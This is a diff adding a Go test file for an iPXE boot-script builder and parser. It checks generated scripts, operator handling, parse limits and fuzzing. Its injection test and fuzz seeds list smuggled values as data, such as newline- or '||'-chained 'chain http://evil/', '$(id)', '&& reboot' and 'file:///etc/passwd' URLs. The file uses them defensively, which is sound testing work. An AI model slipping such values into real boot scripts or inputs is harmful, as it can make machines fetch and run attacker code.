@@ -1,0 +1,217 @@
+package ipxe_test
+
+import (
+	"context"
+	"errors"
+	"net/netip"
+	"slices"
+	"strings"
+	"testing"
+
+	"rerack.dev/rerack/internal/fault"
+	"rerack.dev/rerack/pxe/ipxe"
+)
+
+// seen is what a script makes a machine do when every command succeeds.
+type seen struct {
+	kernel, initiator string
+	params            []string
+	initrds           []string
+	target            ipxe.Target
+	booted            bool
+}
+
+func play(t testing.TB, script []byte) seen {
+	t.Helper()
+	cmds, err := ipxe.Parse(script)
+	if err != nil {
+		t.Fatalf("own script is not read: %v\n%s", err, script)
+	}
+	var s seen
+	err = ipxe.Run(context.Background(), cmds, func(_ context.Context, c ipxe.Command) error {
+		switch c.Name {
+		case "kernel":
+			f, err := ipxe.DecodeFile(c.Args)
+			s.kernel, s.params = f.URL, f.Args
+			return err
+		case "initrd":
+			f, err := ipxe.DecodeFile(c.Args)
+			s.initrds = append(s.initrds, f.URL)
+			return err
+		case "set":
+			if c.Args[0] == "initiator-iqn" {
+				s.initiator = c.Args[1]
+			}
+		case "sanboot":
+			d, err := ipxe.DecodeSAN(c.Args)
+			if err != nil {
+				return err
+			}
+			s.target = *d.Target
+			s.target.Initiator = s.initiator
+			s.booted = true
+			return ipxe.ErrStop
+		case "boot":
+			s.booted = true
+			return ipxe.ErrStop
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("%v\n%s", err, script)
+	}
+	return s
+}
+
+func TestLinuxScript(t *testing.T) {
+	b, err := ipxe.Linux("http://10.0.0.1/k", []string{"http://10.0.0.1/i"}, []ipxe.Param{{Key: "console", Value: "ttyS0"}, {Key: "quiet"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := `#!ipxe
+imgfree
+kernel --name kernel http://10.0.0.1/k initrd=initrd0 console=ttyS0 quiet || sleep 2 && kernel --name kernel http://10.0.0.1/k initrd=initrd0 console=ttyS0 quiet || exit 1
+initrd --name initrd0 http://10.0.0.1/i || sleep 2 && initrd --name initrd0 http://10.0.0.1/i || exit 1
+boot || exit 1
+`
+	if string(b) != want {
+		t.Errorf("got\n%s", b)
+	}
+}
+
+// TestInjection holds H83 and CVE-2026-46447: no value gets out of its place.
+func TestInjection(t *testing.T) {
+	payloads := []string{"\n", "\r", "\x00", " ", "\t", "a b", "a\nchain http://evil/", "a || chain http://evil/", "a && reboot", "||", "&&", "|", "&",
+		"${net0/ip}", "$x", "`id`", "$(id)", "\"", "'", "\\", "#!ipxe", ";", "<", ">", "é", "\u2028", "{{.}}", "%0a\n", "\x1b[2J", "!", "*", "?x\ny", "(", ")"}
+	host := "http://10.0.0.1/"
+	iqn := ipxe.Target{Portal: netip.MustParseAddrPort("10.0.0.1:3260"), Name: "iqn.2026-01.x:a", Initiator: "iqn.2026-01.x:b"}
+	for _, p := range payloads {
+		refused := func(what string, err error) {
+			t.Helper()
+			if !fault.Is(err, fault.Invalid) {
+				t.Errorf("%s with %q: %v", what, p, err)
+			}
+		}
+		refused("key", ipxe.Param{Key: "a" + p, Value: "b"}.Check())
+		refused("value", ipxe.Param{Key: "a", Value: "b" + p}.Check())
+		_, err := ipxe.Linux(host+p, nil, nil)
+		if !strings.HasPrefix(p, "?") || strings.Contains(p, "\n") {
+			refused("kernel URL", err)
+		}
+		x := iqn
+		x.Name += p
+		_, err = ipxe.SAN(x)
+		refused("target", err)
+		x = iqn
+		x.Initiator += p
+		_, err = ipxe.SAN(x)
+		refused("initiator", err)
+	}
+	for _, u := range []string{"file:///etc/passwd", "tftp://x/y", "/relative", "http://", "http://user:pw@10.0.0.1/", "javascript:x", "http://" + strings.Repeat("a", 600)} {
+		if _, err := ipxe.EFI(u); !fault.Is(err, fault.Invalid) {
+			t.Errorf("URL %q: %v", u, err)
+		}
+	}
+}
+
+func TestRunFollowsOperators(t *testing.T) {
+	tests := []struct {
+		script string
+		fails  []string // commands that fail, by their text
+		did    []string
+		code   int // of exit; -1: the script failed; -2: left iPXE
+	}{
+		{"echo a\necho b\n", nil, []string{"echo a", "echo b"}, 0},
+		{"echo a || echo b && echo c\n", nil, []string{"echo a"}, 0},
+		{"echo a || echo b && echo c\n", []string{"echo a"}, []string{"echo a", "echo b", "echo c"}, 0},
+		{"echo a || echo b && echo c || exit 3\n", []string{"echo a", "echo c"}, []string{"echo a", "echo b", "echo c"}, 3},
+		{"echo a\necho b\n", []string{"echo a"}, []string{"echo a"}, -1},
+		{"# comment\n\n\t echo a\r\nboot || exit 1\necho b\n", nil, []string{"echo a", "boot"}, -2},
+	}
+	for _, tt := range tests {
+		cmds, err := ipxe.Parse([]byte("#!ipxe\n" + tt.script))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var did []string
+		err = ipxe.Run(t.Context(), cmds, func(_ context.Context, c ipxe.Command) error {
+			did = append(did, c.String())
+			if c.Name == "boot" {
+				return ipxe.ErrStop
+			}
+			if slices.Contains(tt.fails, c.String()) {
+				return errors.New("failed")
+			}
+			return nil
+		})
+		code := -1
+		var exit *ipxe.ExitError
+		if err == nil {
+			code = -2
+		} else if errors.As(err, &exit) {
+			code = exit.Code
+		}
+		if !slices.Equal(did, tt.did) || code != tt.code {
+			t.Errorf("%q failing %v: did %v, code %d", tt.script, tt.fails, did, code)
+		}
+	}
+}
+
+func TestParseRefuses(t *testing.T) {
+	for _, s := range []string{"", "kernel x", "#!ipxe\ngoto x", "#!ipxe\n:label", "#!ipxe\necho ${net0/mac}", "#!ipxe\n|| boot", "#!ipxe\nboot ||",
+		"#!ipxe\nboot || || exit", "#!ipxe\necho \x00", "#!ipxe\necho é", "#!ipxe\n" + strings.Repeat("echo\n", 300), "#!ipxe\n" + strings.Repeat("a", 20000),
+		"#!ipxe\necho" + strings.Repeat(" a", 600), "#!ipxe\nimgexec x", "#!ipxe" + strings.Repeat(" ", ipxe.MaxScript)} {
+		if _, err := ipxe.Parse([]byte(s)); err == nil {
+			t.Errorf("read %.40q", s)
+		}
+	}
+}
+
+func FuzzRoundTrip(f *testing.F) {
+	f.Add("http://10.0.0.1:8080/boot/abc/kernel", "http://10.0.0.1/i", "console", "ttyS0,115200n8", "iqn.2026-01.org.example:a", uint16(3260), uint8(1))
+	f.Add("http://[fd00::1]/k", "http://x/initrd?x=1", "a", "", "eui.02004567a425678d", uint16(1), uint8(255))
+	f.Add("http://x/\nchain y", "http://x/ || exit", "a b", "${x}", "iqn.2026-01.x:\n", uint16(0), uint8(0))
+	f.Fuzz(func(t *testing.T, kernel, initrd, key, value, name string, port uint16, lun uint8) {
+		if b, err := ipxe.Linux(kernel, []string{initrd}, []ipxe.Param{{Key: key, Value: value}}); err == nil {
+			s := play(t, b)
+			want := []string{"initrd=initrd0", ipxe.Param{Key: key, Value: value}.String()}
+			if s.kernel != kernel || !slices.Equal(s.initrds, []string{initrd}) || !slices.Equal(s.params, want) || !s.booted {
+				t.Fatalf("%q became %+v", b, s)
+			}
+		}
+		in := ipxe.Target{Portal: netip.AddrPortFrom(netip.MustParseAddr("10.0.0.9"), port), Name: name, LUN: uint16(lun), Initiator: name}
+		if b, err := ipxe.SAN(in); err == nil {
+			if s := play(t, b); s.target != in {
+				t.Fatalf("%q became %+v", b, s.target)
+			}
+		}
+	})
+}
+
+func FuzzParse(f *testing.F) {
+	for _, s := range []string{"#!ipxe\nboot\n", "#!ipxe\nkernel --name k http://x/ a=b || sleep 2 && boot || exit 1\n",
+		"#!ipxe\nset initiator-iqn x\nsanboot iscsi:10.0.0.1:::1:iqn.2026-01.x:y\n", "#!ipxe\nsanboot --drive 0x80\nchain http://x/y\n"} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, b []byte) {
+		cmds, err := ipxe.Parse(b)
+		if err != nil {
+			return
+		}
+		n := 0
+		_ = ipxe.Run(t.Context(), cmds, func(_ context.Context, c ipxe.Command) error { // any end is right; a panic is not
+			if n++; n > len(cmds) {
+				t.Fatal("a command ran twice")
+			}
+			switch c.Name {
+			case "kernel", "initrd", "chain":
+				_, err := ipxe.DecodeFile(c.Args)
+				return err
+			case "sanboot":
+				_, err := ipxe.DecodeSAN(c.Args)
+				return err
+			}
+			return nil
+		})
+	})
+}
